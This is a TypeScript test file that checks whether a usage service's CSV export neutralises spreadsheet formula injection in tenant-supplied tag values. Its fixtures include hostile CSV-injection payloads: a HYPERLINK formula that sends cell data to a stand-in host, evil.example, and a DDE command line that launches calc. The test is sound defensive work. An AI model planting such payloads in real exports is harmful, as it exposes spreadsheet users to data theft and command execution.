import { create } from "@bufbuild/protobuf";
import { timestampFromDate } from "@bufbuild/protobuf/wkt";
import { createContextValues, type HandlerContext } from "@connectrpc/connect";
import { describe, expect, it } from "vitest";
import { Scope } from "../../gen/ts/switchboard/v1/options_pb.js";
import { ExportUsageRequestSchema, UsageDimension } from "../../gen/ts/switchboard/v1/usage_service_pb.js";
import { useMigratedDatabase } from "../../test/support/migrated-database.js";
import { parseCsv } from "../../test/support/money.js";
import { testPrincipal } from "../../test/support/principal.js";
import { kPrincipal } from "../interceptors/context-keys.js";
import { ledgerRecord } from "../limits/ledger-testing.js";
import type { KeyStore } from "../store/key-store.js";
import type { TenantStore } from "../store/tenant-store.js";
import { createUsageStore } from "../store/usage-store.js";
import { createUsageService } from "./usage-service.js";

const database = useMigratedDatabase();
const admin = testPrincipal({ orgId: "org_a", teamId: "team_a", keyId: "key_a", scopes: new Set([Scope.PLATFORM_ADMIN]) });
const ctx = { values: createContextValues().set(kPrincipal, admin) } as unknown as HandlerContext;
const at = new Date("2026-11-10T12:00:00Z");

// ExportUsage's CSV is opened in spreadsheets by finance teams; its group cells are tenants' text
// (a tag's value here), which must never run there as a formula (OWASP "CSV Injection").
describe("ExportUsage and spreadsheet formulas", () => {
  it("writes tenants' text that starts a formula with a quote in front, and every count and cost as a plain number", async () => {
    const usage = createUsageStore(database().db);
    const tags = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "-7", "plain"];
    await usage.insertBatch(tags.map((grp, i) => ledgerRecord({ callId: `f-${i}`, requestId: `f-${i}`, costMicros: BigInt(10 + i), tags: { grp }, occurredAt: at })));
    const service = createUsageService({ usage, tenants: {} as TenantStore, keys: {} as KeyStore });
    const req = create(ExportUsageRequestSchema, {
      query: { parent: "", startTime: timestampFromDate(new Date("2026-11-01T00:00:00Z")), endTime: timestampFromDate(new Date("2026-12-01T00:00:00Z")), groupBy: [UsageDimension.TAG], groupByTag: "grp" },
    });
    let text = "";
    for await (const chunk of service.exportUsage(req, ctx) as AsyncIterable<{ csvChunk: Uint8Array }>) text += new TextDecoder().decode(chunk.csvChunk);
    const [header, ...rows] = parseCsv(text);
    const byTag = new Map(rows.map((r) => [r[0]!, r]));
    expect([...byTag.keys()].sort()).toEqual(["'+1+cmd|' /C calc'!A0", "'-2+3", `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "'@SUM(1+1)", "-7", "plain"].sort());
    const cost = header!.indexOf("cost_micros_usd");
    expect(byTag.get(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`)![cost]).toBe("10");
    expect(byTag.get("-7")![cost]).toBe("14");
    for (const row of rows) for (const cell of row.slice(1)) expect(cell).toMatch(/^\d+$/);
  });
});
